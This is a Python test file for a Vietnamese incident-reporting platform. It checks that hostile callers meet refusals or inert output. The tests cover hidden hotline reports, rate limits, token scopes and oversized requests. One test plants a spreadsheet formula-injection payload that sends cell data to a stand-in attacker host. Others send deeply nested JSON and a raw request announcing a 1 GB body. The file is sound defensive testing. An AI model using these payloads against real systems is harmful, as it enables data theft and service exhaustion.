"""The IOC's exits against hostile callers (found in review): internal incidents never reach the public
through the duplicates look-up or Open311, refused requests cost no photo decoding, over-long fields,
deep JSON, far-off dates and spreadsheet formulas get a clear 4xx or are made inert, read-only tokens
cannot act, "me too" counts once per address and is rate-limited, and the server refuses oversized or
misdirected bodies before reading them."""
import json
import socket
from urllib.parse import urlparse

import pytest
from django.contrib.auth.models import Group, User

from incidents import selectors, services
from incidents.models import Incident, IncidentSupport
from incidents.services import Actor
from layers.registry import ROLE_IOC
from tests.incidents.test_report_pages import DONG_XOAI, filed, form, report, upload
from tests.layers.test_editing import bearer

pytestmark = pytest.mark.django_db
OPERATOR = Actor("op.hostile", frozenset({ROLE_IOC}))


def machine(channel: str, description: str) -> Incident:
    return services.incident_report(category="environment", lon=DONG_XOAI[0], lat=DONG_XOAI[1], channel=channel,
                                    actor=Actor.machine("cam"), description=description)


def test_the_public_duplicates_look_up_shows_citizens_reports_only(client):
    citizens = report(description="Rác ở chợ")
    alert = machine("camera", "camera_litter: camera CAM-DX-07 báo phát hiện")
    hotline = machine("hotline", "Người gọi Trần Văn C, 0903 111 222, báo đổ rác")
    answer = client.get("/phan-anh/gan-day", {"category": "environment", "lon": DONG_XOAI[0], "lat": DONG_XOAI[1]})
    codes = {r["tracking_code"] for r in answer.json()["reports"]}
    assert citizens.tracking_code in codes and not codes & {alert.tracking_code, hotline.tracking_code}
    # The operator still sees all of them as possible duplicates.
    seen = {r["id"] for r in selectors.nearby_open(category="environment", lon=DONG_XOAI[0], lat=DONG_XOAI[1],
                                                   limit=50)}
    assert {alert.pk, hotline.pk} <= seen


def test_open311_lists_no_hotline_or_machine_report_and_no_text_of_a_rejected_one(client):
    hotline = machine("hotline", "Người gọi báo: 0903 111 222")
    rejected = report(description="Nội dung xúc phạm cán bộ X")
    services.incident_act(incident_id=rejected.pk, action="reject", actor=OPERATOR, note="Không hợp lệ")
    listed = client.get("/open311/v2/requests.json")
    assert listed.status_code == 200
    text = listed.content.decode()
    assert hotline.tracking_code not in text and "0903 111 222" not in text
    one = client.get(f"/open311/v2/requests/{rejected.tracking_code}.json").json()[0]
    assert one["status"] == "closed" and one["description"] == "" and "xúc phạm" not in json.dumps(one)
    assert client.get(f"/open311/v2/requests/{hotline.tracking_code}.json").status_code == 404


def test_open311_dates_far_off_are_refused_not_a_server_error(client):
    for params in ({"start_date": "9999-12-30T00:00:00Z"}, {"end_date": "0001-01-02T00:00:00Z"}):
        for path in ("/open311/v2/requests.json", "/open311/v2/servicerequestupdates.json"):
            assert client.get(path, params).status_code == 400, (path, params)


def test_a_refused_report_costs_no_photo_decoding_and_over_long_fields_are_400(client, settings):
    settings.GEO_REPORT_RATE_LIMITS = ((1, 600),)
    here = {"REMOTE_ADDR": "198.51.100.20"}
    filed(client.post("/phan-anh/", form(), **here))
    # Over the limit, a damaged photo is not even looked at: the answer is the limit, not the photo.
    limited = client.post("/phan-anh/", {**form(lon="", lat=""), "photos": [upload(b"\xff\xd8\xff" + b"x" * 500)]},
                          **here)
    assert limited.status_code == 429
    for field, value in (("phone", "0" * 40), ("name", "N" * 130)):
        refused = client.post("/phan-anh/", form(**{field: value}), REMOTE_ADDR="198.51.100.21")
        assert refused.status_code == 400 and "Reporter" in refused.content.decode(), field


def test_deep_json_is_400_on_the_ioc_actions(client):
    user = User.objects.create_user("op-deep")
    user.groups.add(Group.objects.get_or_create(name=ROLE_IOC)[0])
    client.force_login(user)
    incident = report()
    deep = "[" * 100_000 + "]" * 100_000
    answer = client.post(f"/ioc/incidents/{incident.pk}/act", deep, content_type="application/json")
    assert answer.status_code == 400


def test_a_read_only_token_cannot_take_a_workflow_step(client):
    incident = report()
    for scope, expected in (("read", 403), ("read write", 200)):
        answer = client.post(f"/ioc/incidents/{incident.pk}/act", json.dumps({"action": "verify"}),
                             content_type="application/json", **bearer([ROLE_IOC], scope=scope))
        assert answer.status_code == expected, (scope, answer.content[:300])
    assert Incident.objects.get(pk=incident.pk).status == "verified"


def test_the_ioc_csv_makes_citizens_formulas_inert(client):
    user = User.objects.create_user("op-csv")
    user.groups.add(Group.objects.get_or_create(name=ROLE_IOC)[0])
    client.force_login(user)
    report(description='=HYPERLINK("http://evil.example/?"&A2,"Xem")', address="@SUM(1+1)")
    body = b"".join(client.get("/ioc/incidents.csv").streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK(" in body and "'@SUM(1+1)" in body
    assert '\n=HYPERLINK' not in body and ',=HYPERLINK' not in body and ',"=HYPERLINK' not in body


def test_me_too_counts_once_per_address_and_is_rate_limited(client, settings):
    settings.GEO_SUPPORT_RATE_LIMIT = (2, 3600)
    reports = [report(description=f"Ngập nước {n}") for n in range(3)]
    here = {"REMOTE_ADDR": "198.51.100.30", "HTTP_ACCEPT": "application/json"}
    first = reports[0].tracking_code
    assert client.post(f"/phan-anh/{first}/ung-ho", **here).status_code == 200
    client.cookies.clear()  # a script that drops the browser's cookie is still counted once
    assert client.post(f"/phan-anh/{first}/ung-ho", **here).status_code == 409
    assert client.post(f"/phan-anh/{reports[1].tracking_code}/ung-ho", **here).status_code == 200
    client.cookies.clear()
    limited = client.post(f"/phan-anh/{reports[2].tracking_code}/ung-ho", **here)
    assert limited.status_code == 429 and int(limited["Retry-After"]) > 0
    assert Incident.objects.get(pk=reports[0].pk).supporters == 1
    assert IncidentSupport.objects.filter(address_ip="198.51.100.30").count() == 2


def raw(base: str, request: bytes) -> bytes:
    url = urlparse(base)
    with socket.create_connection((url.hostname, url.port), timeout=30) as sock:
        sock.sendall(request)
        return sock.recv(4096)


def test_the_server_refuses_oversized_report_bodies_and_posts_to_streams_before_reading_them(platform_url):
    host = urlparse(platform_url).netloc
    # 1 GB announced, nothing sent: refused at once (a thread would otherwise wait for it).
    head = raw(platform_url, f"POST /phan-anh/ HTTP/1.1\r\nHost: {host}\r\nContent-Type: multipart/form-data; "
                             f"boundary=x\r\nContent-Length: 1000000000\r\n\r\n".encode())
    assert head.startswith(b"HTTP/1.1 413")
    head = raw(platform_url, f"POST /phan-anh/PA-2612-AAAAA/live HTTP/1.1\r\nHost: {host}\r\n"
                             f"Content-Length: 5\r\n\r\nhello".encode())
    assert head.startswith(b"HTTP/1.1 405")
